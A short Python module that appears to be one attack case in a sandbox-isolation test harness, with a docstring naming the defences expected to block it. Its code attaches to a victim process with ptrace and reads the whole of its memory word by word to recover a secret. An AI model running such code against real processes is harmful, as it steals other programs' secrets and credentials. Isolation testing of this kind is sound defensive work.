"""Attaches to another process and reads its memory.

stopped-by: seccomp, namespaces, landlock, privileges, tree
needs: ptrace
evidence: secret
leaks: the other's secret arrives
"""

import ctypes
import time

from evalmode_runner.attacks.tools import call, facts, number

call(number("ptrace"), 16, facts.victim, 0, 0)
time.sleep(0.1)
start, end = facts.victim_memory
word = ctypes.c_ulong()
found = b""
for address in range(start, end, 8):
    call(number("ptrace"), 2, facts.victim, address, ctypes.byref(word))
    found += bytes(word)
print(found)
